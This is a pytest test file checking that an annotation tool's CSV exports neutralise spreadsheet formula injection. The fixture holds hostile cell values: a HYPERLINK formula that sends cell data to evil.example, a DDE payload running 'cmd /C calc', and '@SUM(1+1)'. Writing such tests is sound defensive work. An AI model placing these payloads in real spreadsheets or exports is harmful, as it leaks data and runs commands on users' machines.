"""Every CSV the API serves (documents, casualty figures, the agreement table) neutralises
cells that a spreadsheet would run as a formula (OWASP's rule; annotator.formats.csv_safety)."""

from __future__ import annotations

import csv
import io

import pytest

from annotator.formats import Record
from annotator.formats.csv_safety import FORMULA_STARTS, neutralise
from annotator.services.imports import import_documents

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
CALC = "=cmd|' /C calc'!A0"
TEXT = CALC + " killed 3 in Idlib."


def cells_of(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8"))) for cell in row]


def formulas_in(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS) and neutralise(cell) != cell]


@pytest.fixture
def hostile(project, alice, bob):  # type: ignore[no-untyped-def]
    """A document whose id, title and text are formula payloads, annotated by two
    annotators and adjudicated into gold."""
    spans = [{"start": 0, "end": len(CALC), "label": "PERPETRATOR"}, {"start": 31, "end": 36, "label": "LOCATION"}]
    record = Record(text=TEXT, id=HYPERLINK, meta={"title": "@SUM(1+1)", "casualties": "-3"}, spans=spans, line=1)
    import_documents(project=project, records=[record], as_gold=True)
    for user in (alice, bob):
        import_documents(project=project, records=[record], as_annotator=user.username)
    return record


@pytest.mark.parametrize(("fmt", "source"), [("csv", "gold"), ("casualty-csv", "gold"), ("casualty-csv", "all")])
def test_csv_exports_write_formula_payloads_as_inert_text(hostile, client_for, reviewer, fmt, source) -> None:  # type: ignore[no-untyped-def]
    response = client_for(reviewer).get(f"/api/projects/aleppo/export/?format={fmt}&source={source}")
    assert response.status_code == 200
    cells = cells_of(b"".join(response.streaming_content))
    assert "'" + HYPERLINK in cells
    assert formulas_in(cells) == []


def test_the_documents_csv_keeps_a_numeric_cell_a_number(hostile, client_for, reviewer) -> None:  # type: ignore[no-untyped-def]
    response = client_for(reviewer).get("/api/projects/aleppo/export/?format=csv&source=gold")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    (row,) = [row for row in rows if row["id"] == "'" + HYPERLINK]
    assert row["casualties"] == "-3" and row["title"] == "'@SUM(1+1)" and row["text"] == "'" + TEXT


def test_the_agreement_table_csv_writes_formula_payloads_as_inert_text(hostile, client_for, reviewer) -> None:  # type: ignore[no-untyped-def]
    response = client_for(reviewer).get("/api/projects/aleppo/agreement/documents/?format=csv")
    assert response.status_code == 200
    cells = cells_of(response.content)
    assert "'" + HYPERLINK in cells
    assert formulas_in(cells) == []
